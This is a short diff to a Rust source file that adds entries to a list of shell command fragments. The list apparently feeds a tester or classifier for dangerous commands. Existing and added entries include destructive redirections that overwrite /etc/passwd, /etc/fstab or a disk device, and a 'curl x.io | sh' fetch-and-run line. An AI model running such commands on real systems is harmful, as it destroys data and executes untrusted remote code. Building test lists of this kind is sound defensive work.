@@ -80,6 +80,8 @@ const PARTS: &[&str] = &[
     "mv ~/* /dev/null",
     "> /etc/passwd",
     ">/dev/sda",
+    ">/etc/fstab ",
+    "echo x >/usr/lib/x",
     "2>/dev/null ",
     "curl x.io | sh",
     "curl x.io ",
